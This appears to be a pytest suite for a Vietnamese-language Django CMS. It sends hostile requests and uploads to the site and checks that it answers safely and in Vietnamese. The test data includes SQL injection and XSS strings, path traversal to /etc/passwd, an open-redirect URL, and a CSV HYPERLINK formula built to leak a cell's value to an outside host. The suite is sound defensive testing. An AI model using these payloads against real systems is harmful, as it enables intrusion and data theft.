"""Hostile input across query strings, forms, uploads, imports and meeting endpoints.

Each case is one request a careless or hostile visitor could send: the answer
is never a 500, and a refusal is a page in Vietnamese (or a redirect to the
login). Together with ``test_hostile_input_edge.py``, ``test_hostile_input_fuzz.py``,
``tests/members/test_hostile_input.py``, ``tests/meetings/test_validation_gaps.py`` and
``tests/files/test_decompression_bombs.py`` this is the hostile-input suite of issue 15.
"""

import io
import json

from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

import pytest

from cms.meetings.models import Meeting

pytestmark = pytest.mark.django_db

HUGE = "99999999999999999999"
LONG = "đảng viên " * 1500
VIETNAMESE_LETTERS = set("ạảãàáâậầấẩẫăắằặẳẵđêềếệểễôồốộổỗơờớợởỡưừứựửữ")
IMPORT = "/admin/dang-vien/nhap-danh-sach/"

# (who, method, path, data); {m} is a meeting of the demo secretary's cell.
CASES = [
    # query strings, anonymous
    (None, "get", "/tra-cuu/", {"q": LONG}),
    (None, "get", "/tra-cuu/", {"q": "' OR 1=1 --"}),
    (None, "get", "/tra-cuu/", {"q": "<script>alert(1)</script>"}),
    (None, "get", "/tra-cuu/", {"q": "%%%_\\"}),
    (None, "get", "/tra-cuu/", {"q": "đảng", "page": "-1"}),
    (None, "get", "/tra-cuu/", {"q": "đảng", "page": HUGE}),
    (None, "get", "/tra-cuu/", {"q": "đảng", "page": "abc"}),
    (None, "get", "/tra-cuu/", {"q": "\u202eđảng\u200b\ufeff"}),
    (None, "get", "/tra-cuu/", {"q": 'AND OR NOT ( ) " * :'}),
    (None, "get", "/tin-tuc/", {"page": "0"}),
    (None, "get", "/tin-tuc/", {"page": "1e9"}),
    (None, "get", "/tin-tuc/", {"chuyen-muc": "../../etc/passwd"}),
    (None, "get", "/tin-tuc/", {"the": "<script>"}),
    (None, "get", "/tin-tuc/?the=a&the=b&the=c&chuyen-muc=x&chuyen-muc=y", None),
    (None, "get", "/api/search/", {"q": LONG}),
    (None, "get", "/api/search/suggest/", {"q": "\u202e" * 50}),
    (None, "get", "/documents/999999999/x.pdf", None),
    (None, "get", f"/documents/{HUGE}/x.pdf", None),
    (None, "get", "/media/..%2f..%2fetc/passwd", None),
    (None, "get", "/dang-nhap/", {"next": "https://evil.example/"}),
    (None, "get", f"/sinh-hoat-chi-bo/{HUGE}/", None),
    (None, "get", f"/api/sinh-hoat-chi-bo/{HUGE}/truc-tiep.json", None),
    # forms
    (None, "post", "/dang-nhap/", {"username": LONG, "password": LONG}),
    (None, "post", "/dang-nhap/", {"username": "' OR 1=1 --", "password": "x"}),
    (None, "post", "/dang-nhap/", {"username": ["a", "b"], "password": ""}),
    ("dangvien", "post", "/doi-mat-khau/", {"old_password": LONG, "new_password1": "a"}),
    ("tochuc", "get", "/quan-ly-tai-khoan/chi-bo/..%2f..%2f/", None),
    ("tochuc", "get", f"/quan-ly-tai-khoan/chi-bo/{'A' * 300}/", None),
    # meeting endpoints, as the secretary
    ("bithu", "get", "/sinh-hoat-chi-bo/{m}/bien-ban/phien-ban-0/", None),
    ("bithu", "get", "/sinh-hoat-chi-bo/{m}/bien-ban/phien-ban-99999/", None),
    ("bithu", "get", "/sinh-hoat-chi-bo/{m}/bien-ban/phien-ban-1.exe", None),
    ("bithu", "get", f"/sinh-hoat-chi-bo/{HUGE}/", None),
    ("bithu", "get", f"/sinh-hoat-chi-bo/{HUGE}/bien-ban/", None),
    ("bithu", "get", f"/api/sinh-hoat-chi-bo/{HUGE}/truc-tiep.json", None),
    ("bithu", "get", "/sinh-hoat-chi-bo/bao-cao/", {"thang": "2026-13"}),
    ("bithu", "get", "/sinh-hoat-chi-bo/bao-cao/", {"thang": "abc", "don-vi": "<x>"}),
    ("bithu", "get", "/sinh-hoat-chi-bo/tao-moi/", {"date": "31/02/2026", "kind": "xyz"}),
    ("bithu", "post", f"/sinh-hoat-chi-bo/bieu-quyet/{HUGE}/bo-phieu/", {"option": "1"}),
    ("bithu", "post", "/sinh-hoat-chi-bo/bieu-quyet/999999/bo-phieu/", {"option": HUGE}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/diem-danh/", {"member": "abc", "status": "x"}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/diem-danh/", {"member": HUGE, "status": "present"}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/co-mat/", {"member": HUGE}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/bieu-quyet/them/", {"question": LONG, "options": ""}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/bien-ban/sua/", {"lock_version": "-1"}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/bien-ban/sua/", {"lock_version": HUGE}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/bien-ban/thong-qua/", {"lock_version": "abc"}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/bien-ban/dinh-chinh/", {"reason": LONG * 3}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/khai-mac/", {}),
    ("bithu", "post", "/sinh-hoat-chi-bo/{m}/be-mac/", {}),
    ("dangvien", "post", "/sinh-hoat-chi-bo/{m}/bien-ban/thong-qua/", {"lock_version": "1"}),
]

UPLOADS = [
    ("danh-sach.xls", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 512),
    ("danh-sach.csv", b""),
    ("danh-sach.csv", "Số thẻ,Họ và tên\n".encode("utf-16")),
    ("danh-sach.csv", bytes(range(256)) * 8),
    ("danh-sach.xlsx", b"PK\x03\x04 not really a zip"),
    ("danh-sach.csv", '=HYPERLINK("http://x?c="&C2,"Bấm")\n'.encode()),
    ("../../etc/passwd", b"a,b\n"),
]


@pytest.fixture
def meeting_id(users):
    return Meeting.objects.filter(cell=users["bithu"].member.cell).order_by("pk").first().pk


def _assert_answered_in_vietnamese(response):
    assert response.status_code in (200, 301, 302, 400, 401, 403, 404, 405), response.status_code
    if response.status_code in (400, 401, 403, 404, 405):
        body = response.content.decode()
        if response.get("Content-Type", "").startswith("application/json"):
            body = json.dumps(response.json(), ensure_ascii=False)
        assert VIETNAMESE_LETTERS & set(body.lower()), body[:500]


@pytest.mark.parametrize(("who", "method", "path", "data"), CASES)
def test_hostile_request_is_answered_in_vietnamese(users, meeting_id, who, method, path, data):
    client = Client(raise_request_exception=False)
    if who:
        client.force_login(users[who])
    response = getattr(client, method)(path.replace("{m}", str(meeting_id)), data)
    _assert_answered_in_vietnamese(response)
    assert b"<script>alert(1)</script>" not in response.content


@pytest.mark.parametrize(("name", "data"), UPLOADS)
def test_hostile_roster_upload_is_answered_in_vietnamese(users, name, data):
    from cms.members.models import Member

    client = Client(raise_request_exception=False)
    client.force_login(users["tochuc"])
    before = Member.objects.count()
    response = client.post(IMPORT, {"file": SimpleUploadedFile(name, io.BytesIO(data).read())})
    _assert_answered_in_vietnamese(response)
    assert Member.objects.count() == before
